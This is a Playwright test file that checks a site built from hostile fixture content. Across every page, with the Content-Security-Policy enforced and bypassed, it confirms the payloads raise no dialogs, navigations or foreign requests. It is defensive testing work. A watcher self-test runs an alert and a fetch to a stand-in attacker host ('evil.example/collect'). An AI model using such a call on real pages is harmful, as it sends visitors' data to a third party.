import { findHtmlProblems } from "../helpers/hostile-checks";
import { hostileSurfaces } from "../helpers/hostile-surfaces";
import { HOSTILE_CONTENT_DIR, publishedContent } from "./content";
import { expect, test } from "./fixtures";
import { watchPage } from "./page-watch";

/*
 * Runs against the site built from tests/fixtures/hostile (the `hostile` project in
 * playwright.config.ts): every page of it, every check, over HTTP and in Chromium.
 */
async function surfaces() {
  return hostileSurfaces(await publishedContent(HOSTILE_CONTENT_DIR));
}

test("every page of the hostile build answers as expected and keeps its payloads inert", async ({ request, baseURL }) => {
  const origin = new URL(baseURL ?? "").origin;
  const problems: string[] = [];
  for (const surface of await surfaces()) {
    const response = await request.get(surface.path, { maxRedirects: 0 });
    if (response.status() !== surface.status) problems.push(`${surface.path}: answered ${response.status()}, not ${surface.status}`);
    problems.push(...findHtmlProblems(await response.text(), surface, origin));
  }
  expect(problems).toEqual([]);
});

for (const policy of ["enforced", "bypassed"] as const) {
  test.describe(`in Chromium, with the Content-Security-Policy ${policy}`, () => {
    // Bypassed, the sanitizer alone must keep every payload inert: the policy is the second wall.
    test.use({ bypassCSP: policy === "bypassed" });

    test("loading every page opens no dialog, navigates nowhere and calls no other origin", async ({ page, baseURL }) => {
      test.setTimeout(180_000);
      const origin = new URL(baseURL ?? "").origin;
      const { activity, expectNavigationTo } = await watchPage(page, origin);
      const problems: string[] = [];
      for (const surface of await surfaces()) {
        expectNavigationTo(new URL(surface.path, origin).toString());
        await page.goto(surface.path, { waitUntil: "networkidle" });
        // The live DOM after hydration, not just the HTML that was sent.
        problems.push(...findHtmlProblems(await page.content(), surface, origin));
      }
      expect(activity).toEqual({ dialogs: [], foreignRequests: [], navigations: [] });
      expect(problems).toEqual([]);
    });
  });
}

test.describe("the watcher", () => {
  // Without the policy, so the provoked request is really attempted (and then aborted).
  test.use({ bypassCSP: true });

  test("catches a dialog, a navigation and a request to another origin", async ({ page, baseURL, consoleErrors }) => {
    const origin = new URL(baseURL ?? "").origin;
    const { activity, expectNavigationTo } = await watchPage(page, origin);
    expectNavigationTo(`${origin}/`);
    await page.goto("/");

    // What a payload that got through would do.
    await page.evaluate(() => alert("payload ran"));
    await page.evaluate(() => fetch("https://evil.example/collect").catch(() => undefined));
    await page.evaluate(() => {
      const link = document.createElement("a");
      link.href = "/no-such-page";
      document.body.append(link);
      link.click();
    });
    await page.waitForURL("**/no-such-page");

    expect(activity.dialogs).toEqual([expect.stringContaining("alert: payload ran")]);
    expect(activity.foreignRequests).toEqual([expect.stringContaining("https://evil.example/collect")]);
    expect(activity.navigations).toContainEqual(expect.stringContaining("/no-such-page"));
    // The aborted request is logged as a console error: provoked on purpose here.
    consoleErrors.length = 0;
  });
});
